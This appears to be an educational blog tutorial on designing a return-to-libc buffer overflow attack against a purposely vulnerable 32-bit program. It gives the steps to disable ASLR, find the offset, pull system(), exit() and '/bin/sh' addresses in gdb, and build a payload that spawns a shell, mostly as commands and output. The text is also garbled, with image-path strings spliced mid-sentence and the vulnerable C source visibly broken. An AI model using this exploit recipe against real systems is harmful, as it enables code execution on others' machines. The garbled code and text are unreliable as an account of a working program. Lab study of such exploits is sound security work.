Design a Return-to-libc attack

July 16, 2023 at 15:57:00, written by @vmmon.th0


The ret2libc technique is a method typically used in case of buffer overflow vulnerability (see this section for more information on buffer overflow). It is not specific to certain UNIX architectures, which means that it works on both 32-bit and 64-bit systems. Ret2libc, short for Return-to-libc, is a technique of overwriting the return address in a (stack frame) in order to hijack the program executionflow to a libc function. In addition, it is possible to add parameters in the stack for these functions. This approach could be seen as a lighter and more straightforward solution than using pure shellcode. However, shellcode has the advantage of offering precise instructions.

The content of this cyber security course on ret2libc is strictly educational. It is not intended for malicious use or illegal activities.


This diagram represents a stack frame, the elements marked on the right will overwrite the targeted sections.

enter image description here

#include <stdio.h>

  char buffer[32];

main(int argc, const char*argv[])
  return 0;

This program should be compiled with this command line, at the same time we will deactivate ASLR, in order to ensure that there is no randomization at the address space positions.

echo 0 | sudo tee/proc/sys/kernel/randomize_va_space
gcc -m32 -fno-stack-protector -o ret2libc ret2libc.c

The above program is vulnerable as there is no saniztize input. This will be used to demonstrate our operation. First of all we have to look for the necessary components to design our attack, in other words, the addresses of the functions to be executed and their respective arguments. The principle is simple we modify what is written in the memory by respecting certain conventions inorder to achieve our ends.

  1. Get offset & apply padding in order to point to the beginning of the RIP location. For this demonstration we will use an Offset Pattern Generator, it's a software that generates a pattern and is able to calculate the offset from the current memory position used to inject this pattern until the EIP location.

enter image description here

Program received signal SIGSEGV, Segmentation fault.
0x35624134 in ?? ()Our offset is therefore 44 Bytes according to the 0x35624134.

  1. Retrieve the system() address from the libc.
(gdb) p system
$1 = {<text variable, no debug info>} 0xf7c48170 <system>
  1. Retrieve the exit() address from the libc.
(gdb) p exit
$2 = {<text variable, no debug info>} 0xf7c3a460 <exit>
  1. Find "/bin/sh" string address in our libc-[VERSION].so using find command :
(gdb) b main
Breakpoint 1 at 0x1193
(gdb) run
Starting program: /home/ammon/Desktop/ret2libc/a.out
[Thread debugging using libthread_db enabled]
Using host libthread_db library "/lib/x86_64-linux-gnu/".Breakpoint 1, 0x56556193 in main ()
(gdb) info proc map
process 5689
Mapped address spaces:

Start Addr End Addr Size Offset Perms objfile
0xf7c00000 0xf7c20000 0x20000 0x0 r--p /usr/lib/i386-linux-gnu/
0xf7c20000 0xf7da20000x182000 0x20000 r-xp /usr/lib/i386-linux-gnu/
0xf7da2000 0xf7e27000 0x85000 0x1a2000 r--p /usr/lib/i386-linux-gnu/
0xf7e27000 0xf7e28000 0x1000 0x227000 ---p /usr/lib/i386-linux-gnu/
0xf7e28000 0xf7e2a000 0x2000 0x227000 r--p /usr/lib/i386-linux-gnu/
0xf7e2a000 0xf7e2b000 0x1000 0x229000 rw-p /usr/lib/i386-linux-gnu/

(gdb) find 0xf7c00000,0xf7e2b000,"/bin/sh"
1 pattern found.

You can also save the string "/bin/sh" in an environment variable before launching the process this way export MALICIOUS_VAR="/bin/sh" In order to retrieve the location of this character string in memory you set a breakpoint in hand, then youexecute the program with the run command. Now that you are inthe process, you will get the address with the getenv(); call (char *)getenv("MALICIOUS_VAR")

Design attack

After identifying all the required addresses for our elements, we will construct an optimal payload based on the previously discovered offset and our 32-bit architecture.

python3 -c 'print("B"*44 + "\x70\x81\xc4\xf7" + "\x60\xa4\xc3\xf7" + "\xd5\xd0\xdb\xf7")' > payload

The above payload will be injected into the program inorder to carry out the overwrite demonstrated at thebeginning of this archive. A common approach to catch the spawned shell is to usethis command line.

catpayload - | ./ret2libc

For comments, please send me an dm through contact section.